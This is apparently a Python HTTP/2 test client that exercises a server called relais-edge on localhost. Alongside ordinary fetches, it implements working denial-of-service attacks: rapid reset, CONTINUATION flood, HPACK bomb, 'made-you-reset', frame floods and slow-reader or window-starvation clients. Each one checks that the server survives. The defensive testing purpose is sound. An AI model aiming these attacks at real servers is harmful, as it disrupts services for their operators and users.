#!/usr/bin/python3
"""HTTP/2 test client for relais-edge's integration tests: legitimate
requests and hostile clients, written with raw frames (hyperframe, hpack:
Debian's python3-h2) so that it can send what a well-behaved library refuses
to. Run by tests/integration/edge_h2_test.cc; prints one `key=value` line per
fact, and per response `response I status=S length=N`, `header I name: value`,
`body I HEX`. Never sleeps: every wait is a socket read with a deadline.

usage: h2_client.py COMMAND PORT [ARGS...]
  fetch PORT METHOD:PATH[|name=value|...] ...   all on one connection, concurrently
                                                (`reset I CODE` for a stream reset)
  partial PORT PATH N                           a GET until N body bytes came (or its end)
  attack PORT NAME [COUNT]                      then a GET / on the same connection if it survives
                                                (window-dribble: COUNT seconds; post-bodies: COUNT bytes)
"""
import socket
import sys

from hpack import Encoder, Decoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame, PriorityFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DEADLINE = 20.0


class Client:
    def __init__(self, port, settings=None, auto_window=True, receive_buffer=0):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.settimeout(DEADLINE)
        self.sock.connect(("127.0.0.1", port))
        self.enc, self.dec = Encoder(), Decoder()
        self.buf = b""
        self.auto_window = auto_window
        self.goaway = None       # error code of a GOAWAY received
        self.goaways = []        # (error code, last stream id) of every GOAWAY, in order
        self.closed = False
        self.resets = {}         # stream id -> error code of RST_STREAM received
        self.responses = {}      # stream id -> {"headers": [...], "body": bytes, "done": bool}
        self.server_settings = {}
        self.last_ping_acked = False
        self.sock.sendall(PREFACE + SettingsFrame(0, settings or {}).serialize())

    def send(self, *frames):
        try:
            self.sock.sendall(b"".join(f.serialize() for f in frames))
            return True
        except OSError:
            self.closed = True
            return False

    def headers_frame(self, sid, fields, end_stream=True, end_headers=True):
        flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(sid, self.enc.encode(fields), flags=flags)

    def request(self, sid, method, path, extra=(), end_stream=True):
        fields = [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)] + list(extra)
        self.responses[sid] = {"headers": [], "body": b"", "done": False}
        return self.send(self.headers_frame(sid, fields, end_stream))

    def read_frame(self):
        while True:
            if len(self.buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) >= 9 + length:
                    frame.parse_body(memoryview(self.buf[9:9 + length]))
                    self.buf = self.buf[9 + length:]
                    return frame
            try:
                chunk = self.sock.recv(65536)
            except (ConnectionResetError, socket.timeout, OSError):
                chunk = b""
            if not chunk:
                self.closed = True
                return None
            self.buf += chunk

    def handle(self, f):
        if isinstance(f, SettingsFrame):
            if "ACK" not in f.flags:
                self.server_settings.update(f.settings)
                self.send(SettingsFrame(0, flags=["ACK"]))
        elif isinstance(f, PingFrame):
            if "ACK" not in f.flags:  # as every client does (RFC 9113 §6.7)
                self.send(PingFrame(0, opaque_data=f.opaque_data, flags=["ACK"]))
            elif f.opaque_data == b"lastping":
                self.last_ping_acked = True
        elif isinstance(f, GoAwayFrame):
            self.goaway = f.error_code
            self.goaways.append((f.error_code, f.last_stream_id))
        elif isinstance(f, RstStreamFrame):
            self.resets[f.stream_id] = f.error_code
            if f.stream_id in self.responses:
                self.responses[f.stream_id]["done"] = True
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            fields = self.dec.decode(f.data)  # always, to keep the HPACK state
            r = self.responses.get(f.stream_id)
            if r is not None:
                r["headers"] += fields
                if "END_STREAM" in f.flags:
                    r["done"] = True
        elif isinstance(f, DataFrame):
            r = self.responses.get(f.stream_id)
            if r is not None:
                r["body"] += f.data
                if "END_STREAM" in f.flags:
                    r["done"] = True
            if self.auto_window and f.flow_controlled_length > 0:
                wu = [WindowUpdateFrame(0, window_increment=f.flow_controlled_length)]
                if r is not None and not r["done"]:
                    wu.append(WindowUpdateFrame(f.stream_id, window_increment=f.flow_controlled_length))
                self.send(*wu)

    def pump_until(self, done):
        while not done():
            f = self.read_frame()
            if f is None:
                return False
            self.handle(f)
        return True

    def wait_responses(self, sids):
        return self.pump_until(lambda: all(self.responses[s]["done"] for s in sids))

    def wait_end(self):
        """Reads until the server closes the connection."""
        self.pump_until(lambda: False)


def print_response(index, r):
    status = next((v for k, v in r["headers"] if k == ":status"), "-")
    print(f"response {index} status={status} length={len(r['body'])}")
    for k, v in r["headers"]:
        if not k.startswith(":"):
            print(f"header {index} {k}: {v}")
    print(f"body {index} {r['body'].hex()}")


def parse_spec(spec):
    parts = spec.split("|")
    method, path = parts[0].split(":", 1)
    extra = [tuple(p.split("=", 1)) for p in parts[1:] if not p.startswith("~")]
    body = next((bytes.fromhex(p[len("~body="):]) for p in parts[1:] if p.startswith("~body=")), None)
    return method, path, extra, body


def fetch(port, specs):
    c = Client(port)
    sids = []
    for i, spec in enumerate(specs):
        method, path, extra, body = parse_spec(spec)
        sid = 1 + 2 * i
        # "~open": the stream is left open, no DATA (a body announced, never sent)
        c.request(sid, method, path, extra, end_stream=body is None and "|~open" not in spec)
        if body is not None:  # "~body=HEX": DATA frames of at most 16 KiB, the last ends the stream
            chunks = [body[at:at + 16384] for at in range(0, len(body), 16384)] or [b""]
            for n, chunk in enumerate(chunks):
                c.send(DataFrame(sid, chunk, flags=["END_STREAM"] if n == len(chunks) - 1 else []))
        sids.append(sid)
    c.wait_responses(sids)
    for i, sid in enumerate(sids):
        print_response(i, c.responses[sid])
        if sid in c.resets:
            print(f"reset {i} {c.resets[sid]}")
    print(f"server_max_streams={c.server_settings.get(3, '-')}")
    c.pump_until(lambda: c.goaway is not None or c.closed) if "--wait-goaway" in sys.argv else None
    print(f"goaway={c.goaway if c.goaway is not None else '-'}")


def partial(port, path, want):
    """The start of a body: whether the stream had ended when it came."""
    c = Client(port)
    c.request(1, "GET", path)
    r = c.responses[1]
    c.pump_until(lambda: len(r["body"]) >= want or r["done"])
    print_response(0, r)
    print(f"partial_done={r['done']}")


def legit_after(c, sid):
    """A GET / on the same connection, if it is still open."""
    if c.closed or c.goaway is not None:
        print("same=closed")
        return
    c.request(sid, "GET", "/")
    if not c.wait_responses([sid]):
        print("same=closed")
        return
    r = c.responses[sid]
    status = next((v for k, v in r["headers"] if k == ":status"), f"reset{c.resets.get(sid)}")
    print(f"same={status}")


def attack(name, port, count):
    c = Client(port)
    next_sid = 1
    if name == "rapid-reset":  # CVE-2023-44487: open and cancel at once, many times
        for _ in range(count):
            c.request(next_sid, "GET", "/")
            c.send(RstStreamFrame(next_sid, error_code=8))  # CANCEL
            next_sid += 2
    elif name == "continuation-flood":  # CVE-2024-28182: a header block that never ends
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/")]
        c.send(c.headers_frame(1, fields, end_stream=True, end_headers=False))
        for _ in range(count):
            if not c.send(ContinuationFrame(1, c.enc.encode([("x-a", "b")]))):
                break
        next_sid = 3
    elif name == "hpack-bomb":  # a small block that decodes to a huge header list
        big = "a" * 4000
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/")]
        fields += [("x-bomb", big)] * count  # after the first, one indexed byte each
        c.responses[1] = {"headers": [], "body": b"", "done": False}
        c.send(c.headers_frame(1, fields))
        c.pump_until(lambda: c.responses[1]["done"] or c.goaway is not None)
        status = next((v for k, v in c.responses[1]["headers"] if k == ":status"), "-")
        print(f"bomb_status={status} bomb_reset={c.resets.get(1, '-')}")
        next_sid = 3
    elif name == "made-you-reset":  # CVE-2025-8671: frames that make the server reset streams
        for _ in range(count):
            # A connection-specific field makes the request malformed: a stream
            # error, answered with RST_STREAM(PROTOCOL_ERROR) (RFC 9113 §8.2.2).
            c.request(next_sid, "GET", "/", extra=[("connection", "close")])
            next_sid += 2
    elif name == "ping-flood":
        for i in range(count):
            if not c.send(PingFrame(0, opaque_data=i.to_bytes(8, "big"))):
                break
    elif name == "settings-flood":
        for _ in range(count):
            if not c.send(SettingsFrame(0, {4: 65535})):
                break
    elif name == "window-update-flood":
        for _ in range(count):
            if not c.send(WindowUpdateFrame(0, window_increment=1)):
                break
    elif name == "priority-flood":
        for i in range(count):
            if not c.send(PriorityFrame(1 + 2 * (i % 50), depends_on=0, stream_weight=16)):
                break
    elif name == "max-streams":  # more concurrent streams than announced, none read
        c.pump_until(lambda: 3 in c.server_settings)
        print(f"server_max_streams={c.server_settings[3]}")
        for _ in range(count):
            c.request(next_sid, "GET", "/videos/big.bin")
            next_sid += 2
        c.pump_until(lambda: len(c.resets) > 0 or c.goaway is not None)
        print(f"refused={sorted(set(c.resets.values()))}")
        return report(c)
    elif name == "drain":  # SIGTERM while a body waits for window: it still arrives whole
        import os
        import signal
        c2 = Client(port, settings={4: 16384}, auto_window=False)
        c2.request(1, "GET", "/videos/big.bin")
        c2.pump_until(lambda: len(c2.responses[1]["body"]) > 0)
        os.kill(count, signal.SIGTERM)
        c2.pump_until(lambda: c2.goaway is not None)
        # RFC 9113 §6.8: the first GOAWAY is a notice (last stream 2^31-1); a
        # stream opened after it, as one already on the wire would be, is still answered.
        c2.request(3, "GET", "/cours/style.css")
        c2.auto_window = True
        c2.send(WindowUpdateFrame(0, window_increment=1 << 30), WindowUpdateFrame(1, window_increment=1 << 30))
        c2.wait_responses([1, 3])
        c2.pump_until(lambda: len(c2.goaways) >= 2)
        late = dict(c2.responses[3]["headers"]).get(":status", "-")
        print(f"drain_goaway={c2.goaway} drained_length={len(c2.responses[1]['body'])} late_status={late}")
        print(f"drain_goaways={';'.join(f'{code}/{last}' for code, last in c2.goaways)}")
        return
    elif name == "slow-reader":  # opens every window, then never reads the socket
        import select
        c2 = Client(port, settings={4: (1 << 31) - 1}, auto_window=False, receive_buffer=4096)
        c2.send(WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535))
        for sid in (1, 3, 5):
            c2.request(sid, "GET", "/videos/big.bin")
        p = select.poll()
        p.register(c2.sock, select.POLLERR | select.POLLHUP | select.POLLRDHUP)  # not POLLIN: nothing is read
        print(f"slow_reader_cut={bool(p.poll(int(DEADLINE * 1000)))}")
        return report(c)
    elif name == "two-bodies":  # a second body begun while the first is unfinished: count bytes each
        for sid in (1, 3):
            c.request(sid, "POST", f"/up{sid}", end_stream=False)
            c.send(DataFrame(sid, b"x" * count))
        c.pump_until(lambda: 3 in c.resets or c.closed)
        c.send(DataFrame(1, b"", flags=["END_STREAM"]))
        c.wait_responses([1])
        print(f"reset_second={c.resets.get(3, '-')}")
        print_response(0, c.responses[1])
        return report(c)
    elif name == "zero-window":  # never opens a window: the send timeout ends it
        c2 = Client(port, settings={4: 0}, auto_window=False)
        c2.request(1, "GET", "/videos/big.bin")
        c2.wait_end()
        print(f"zero_window_closed={c2.closed}")
        return report(c)
    elif name == "log-order":  # a stream is logged when its last frame goes, not when it is answered
        import select
        import time
        log_path = sys.argv[5]

        def logged(needle):
            with open(log_path, errors="replace") as f:
                return needle in f.read()

        def wait_logged(needle):
            end = time.monotonic() + DEADLINE
            while not logged(needle) and time.monotonic() < end:
                select.select([], [], [], 0.02)  # polling a file the edge appends to; the deadline bounds it
            return logged(needle)

        c2 = Client(port, settings={4: 0}, auto_window=False)  # no DATA can go
        c2.request(1, "GET", "/videos/big.bin?held")
        c2.pump_until(lambda: len(c2.responses[1]["headers"]) > 0)
        c2.request(3, "HEAD", "/cours/style.css?after")
        c2.wait_responses([3])
        print(f"after_logged={wait_logged('/cours/style.css?after')}")
        print(f"held_logged_early={logged('/videos/big.bin?held')}")
        c2.auto_window = True
        c2.send(SettingsFrame(0, {4: 1 << 20}), WindowUpdateFrame(0, window_increment=1 << 30))
        c2.wait_responses([1])
        print(f"held_length={len(c2.responses[1]['body'])}")
        print(f"held_logged={wait_logged('/videos/big.bin?held')}")
        return
    elif name == "window-dribble":  # opens its stream window 1 byte at a time, for COUNT seconds at most
        import time
        c2 = Client(port, settings={4: 0}, auto_window=False)
        c2.send(WindowUpdateFrame(0, window_increment=1 << 30))  # the connection window is no limit
        c2.request(1, "GET", "/videos/big.bin")
        body = c2.responses[1]
        end = time.monotonic() + count
        while time.monotonic() < end and not c2.closed and c2.goaway is None:
            before = len(body["body"])
            if not c2.send(WindowUpdateFrame(1, window_increment=1)):
                break
            c2.pump_until(lambda: len(body["body"]) > before or c2.goaway is not None)
        if c2.goaway is not None:
            c2.pump_until(lambda: False)  # until the server closes
        print(f"dribble_goaway={c2.goaway} dribble_closed={c2.closed} dribble_bytes={len(body['body'])}")
        return
    elif name == "post-bodies":  # request bodies on stream after stream, within the windows the server gives
        sent, sid, window = 0, 1, 65535
        opened = [0]

        def on_frame(f):
            if isinstance(f, WindowUpdateFrame) and f.stream_id == 0:
                opened[0] += f.window_increment
        while sent < count and not c.closed and c.goaway is None:
            c.request(sid, "POST", "/cours/lecon.html", end_stream=False)
            stream_window = 65535
            while stream_window > 0 and window > 0 and sid not in c.resets and sent < count:
                n = min(16384, stream_window, window)
                if not c.send(DataFrame(sid, b"x" * n)):
                    break
                sent, stream_window, window = sent + n, stream_window - n, window - n
            # Blocked: read until the server reopens the connection window, resets the stream or ends.
            before = opened[0]
            while not c.closed and c.goaway is None and opened[0] == before:
                f = c.read_frame()
                if f is None:
                    break
                c.handle(f)
                on_frame(f)
            window += opened[0] - before
            sid += 2
        print(f"body_sent={sent} window_reopened={opened[0]}")
        return report(c)
    elif name == "window-overflow":  # RFC 9113 §6.9.1: a window above 2^31-1 is a FLOW_CONTROL_ERROR
        c.send(WindowUpdateFrame(0, window_increment=(1 << 31) - 1))
        c.pump_until(lambda: c.goaway is not None)
        return report(c)
    elif name == "reset-mid-body":  # reads one window of a body, then cancels the stream
        import select
        import time
        log_path = sys.argv[5]
        c2 = Client(port, settings={4: 16384}, auto_window=False)
        c2.request(1, "GET", "/videos/big.bin?reset")
        c2.pump_until(lambda: len(c2.responses[1]["body"]) >= 16384)
        c2.send(RstStreamFrame(1, error_code=8))  # CANCEL
        end = time.monotonic() + DEADLINE
        line = ""
        while not line and time.monotonic() < end:
            with open(log_path, errors="replace") as f:
                line = next((l for l in f if "big.bin?reset" in l), "")
            select.select([], [], [], 0.02)  # polling a file the edge appends to; the deadline bounds it
        print(f"received={len(c2.responses[1]['body'])} logged_bytes={line.split(chr(34))[2].split()[1] if line else '-'}")
        return
    else:
        sys.exit(f"unknown attack {name}")
    # Whatever the server did, read its answer: GOAWAY and close, or nothing.
    c.send(PingFrame(0, opaque_data=b"lastping"))
    c.pump_until(lambda: c.goaway is not None or c.last_ping_acked)
    report(c, next_sid)


def report(c, next_sid=None):
    print(f"goaway={c.goaway if c.goaway is not None else '-'}")
    if next_sid is not None:
        legit_after(c, next_sid)


def main():
    command, port = sys.argv[1], int(sys.argv[2])
    if command == "fetch":
        fetch(port, [a for a in sys.argv[3:] if a != "--wait-goaway"])
    elif command == "partial":
        partial(port, sys.argv[3], int(sys.argv[4]))
    elif command == "attack":
        attack(sys.argv[3], port, int(sys.argv[4]) if len(sys.argv) > 4 else 1000)
    else:
        sys.exit(f"unknown command {command}")


if __name__ == "__main__":
    main()
